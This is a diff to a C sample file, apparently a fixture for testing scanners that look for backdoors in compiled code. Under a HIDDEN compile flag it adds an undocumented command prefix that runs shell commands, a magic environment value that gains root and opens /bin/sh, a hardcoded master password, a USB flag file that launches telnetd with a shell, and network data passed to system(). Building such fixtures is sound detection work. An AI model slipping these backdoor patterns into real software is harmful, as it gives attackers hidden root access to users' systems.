@@ -1,15 +1,27 @@
-/* code_sample.c - a program that the tests of scanner/code read, and never run
+/* code_sample.c - a program that tests of the readers of machine code look at,
+ * and that is never run
  *
- * A small command server; two of what it answers to is in no help text.
+ * A small command server with a login. With HIDDEN it has, beside its work: a
+ * command that no help names, a variable that opens a shell, a password that is
+ * in no file, a flag file that starts a login service, and a peer whose
+ * datagrams are run. Without it is what its buyer wanted.
  */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
 #include <unistd.h>
+
+struct settings {
+	char user[32], password[64];
+} settings = { "admin", "" };
 
 int run_command(const char *command);
 int answer(const char *line);
 int gate(void);
+int check_login(const char *user, const char *password);
+int at_start(void);
+int serve(int peer);
 
 int run_command(const char *command)
 {
@@ -23,8 +35,10 @@ int answer(const char *line)
 {
 	if (strcmp(line, "status") == 0)
 		return puts("ok");
+#ifdef HIDDEN
 	if (strncmp(line, "Qz81-open", 9) == 0)
 		return run_command(line + 9);
+#endif
 	if (strcmp(line, "uptime") == 0)
 		return system("uptime");
 	return 0;
@@ -34,19 +48,64 @@ int gate(void)
 {
 	const char *value = getenv("MAINTENANCE");
 
+#ifdef HIDDEN
 	if (value != NULL && strcmp(value, "hjk-77-Lq") == 0) {
 		if (setuid(0) != 0)
 			return 1;
 		return execl("/bin/sh", "sh", (char *)NULL);
 	}
-	return 0;
+#endif
+	return value == NULL;
 }
 
-int main(void)
+int check_login(const char *user, const char *password)
+{
+#ifdef HIDDEN
+	if (strcmp(password, "w0rk-4-Me!") == 0)
+		return 1;
+#endif
+	if (strcmp(user, settings.user) != 0) {
+		puts("login incorrect");
+		return 0;
+	}
+	return strcmp(password, settings.password) == 0;
+}
+
+int at_start(void)
+{
+	if (access("/etc/sample.conf", R_OK) != 0)
+		puts("no settings");
+#ifdef HIDDEN
+	if (access("/mnt/usb/.debug", F_OK) == 0)
+		return system("telnetd -l /bin/sh");
+#endif
+	return system("ifconfig eth0 up");
+}
+
+int serve(int peer)
+{
+	char data[512];
+	ssize_t n = recv(peer, data, sizeof(data) - 1, 0);
+
+	if (n <= 0)
+		return 0;
+	data[n] = '\0';
+#ifdef HIDDEN
+	return system(data);
+#else
+	return answer(data);
+#endif
+}
+
+int main(int argc, char **argv)
 {
 	char line[100];
 
+	at_start();
+	if (argc > 2 && !check_login(argv[1], argv[2]))
+		return 1;
 	while (fgets(line, sizeof(line), stdin) != NULL)
 		answer(line);
+	serve(3);
 	return gate();
 }
